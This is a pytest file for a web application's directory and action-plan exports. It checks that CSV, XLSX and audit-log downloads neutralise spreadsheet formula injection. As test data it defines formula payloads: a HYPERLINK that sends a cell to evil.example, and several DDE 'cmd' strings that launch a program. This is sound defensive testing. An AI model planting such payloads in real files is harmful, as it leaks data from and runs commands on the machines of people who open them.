"""Every download people open in a spreadsheet shows imported formulas as text (issue 18.1)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from fastapi.testclient import TestClient

from maillage.domain.access import Role
from maillage.formats.csv_template import COLUMNS
from maillage.services import accounts, action_plans, directory, territories
from maillage.web.app import create_app
from tests.accounts_helpers import ADMIN, session_for

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "+cmd|' /C calc'!A0"


@pytest.fixture
def client(platform, tmp_path):
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=COLUMNS, delimiter=";")
    writer.writeheader()
    writer.writerow(
        {
            **{c: "" for c in COLUMNS},
            "identifiant": "x1",
            "organisation": ATTACK,
            "service": DDE,
            "types": "service-social",
            "commune": "Namur",
            "telephone": "+32 81 22 33 44",
        }
    )
    path = tmp_path / "attaque.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    directory.import_path(platform, path)
    with TestClient(create_app(platform)) as test_client:
        yield test_client


@pytest.mark.parametrize(
    ("url", "fmt"),
    [
        ("/api/v1/directory/export", "csv"),
        ("/api/v1/directory/export", "csv-excel"),
        ("/repertoire/export", "csv"),
        ("/repertoire/export", "csv-excel"),
    ],
)
def test_directory_csv_exports_neutralise_formulas(client, url, fmt):
    response = client.get(url, params={"format": fmt})
    assert response.status_code == 200
    rows = list(
        csv.reader(
            io.StringIO(response.content.decode("utf-8-sig"), newline=""),
            delimiter=";" if fmt == "csv-excel" else ",",
        )
    )
    ours = next(row for row in rows if "'" + DDE in row)
    assert "'" + ATTACK in ours
    assert "+32 81 22 33 44" in ours  # a phone number is not a formula: kept as it is
    assert not any(
        cell.startswith(("=", "@")) or cell.startswith("+c") for row in rows for cell in row
    )


def test_the_xlsx_export_holds_strings_not_formulas(client):
    response = client.get("/api/v1/directory/export", params={"format": "xlsx"})
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        xml = " ".join(package.read(n).decode() for n in package.namelist() if n.endswith(".xml"))
    assert "<f>" not in xml and "<f " not in xml
    assert "evil.example" in xml  # the name is there, as text


def test_the_hsds_tabular_package_neutralises_formulas(client):
    response = client.get("/api/v1/directory/export", params={"format": "hsds-tabular"})
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        organizations = package.read("organizations.csv").decode("utf-8")
    assert "'" + ATTACK.replace('"', '""') in organizations
    assert "\n" + ATTACK not in organizations and "," + ATTACK not in organizations


def test_a_plan_exported_to_csv_neutralises_what_a_team_typed(client, platform):
    team = accounts.create_person(platform, ADMIN, "t@ols1.be", "T", None)
    team = accounts.grant(
        platform, ADMIN, team.id, Role.OLS_TEAM, "OLS-01", territories.level_of(platform, "OLS-01")
    )
    csrf = session_for(client, platform, team)
    plan = client.post(
        "/plans/OLS-01",
        follow_redirects=False,
        data={
            "csrf_token": csrf,
            "title": "Plan",
            "kind": "multi_year",
            "first_year": "2026",
            "last_year": "2028",
        },
    )
    plan_url = plan.headers["location"]
    client.post(plan_url + "/objectifs", data={"csrf_token": csrf, "title": ATTACK})
    plan_id = int(plan_url.rsplit("/", 1)[1])
    objective = action_plans.get_plan(platform, plan_id, "OLS-01").objectives[0]
    added = client.post(
        plan_url + "/actions",
        data={
            "csrf_token": csrf,
            "objective_id": str(objective.id),
            "title": "@SUM(1+1)*cmd|'/C'!A0",
            "resources": "-2+3+cmd|' /C calc'!A0",
        },
    )
    assert added.status_code in (200, 303)
    rows = list(
        csv.reader(
            io.StringIO(client.get(plan_url + "/csv").content.decode("utf-8-sig"), newline=""),
            delimiter=";",
        )
    )
    assert rows[1][0] == "'" + ATTACK
    assert rows[1][1] == "'@SUM(1+1)*cmd|'/C'!A0"
    assert rows[1][5] == "'-2+3+cmd|' /C calc'!A0"


def test_the_audit_trail_export_neutralises_formulas(client, platform):
    admin = accounts.create_person(platform, ADMIN, "admin@example.be", "Admin", None)
    accounts.grant(
        platform,
        ADMIN,
        admin.id,
        Role.PLATFORM_ADMIN,
        "03000",
        territories.level_of(platform, "03000"),
    )
    accounts.create_person(platform, ADMIN, "v@example.be", ATTACK, None)
    session_for(client, platform, accounts.get_person(platform, admin.id))
    exported = client.get("/admin/journal.csv").content.decode("utf-8")
    assert "evil.example" in exported  # inside the JSON of the "after" column
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
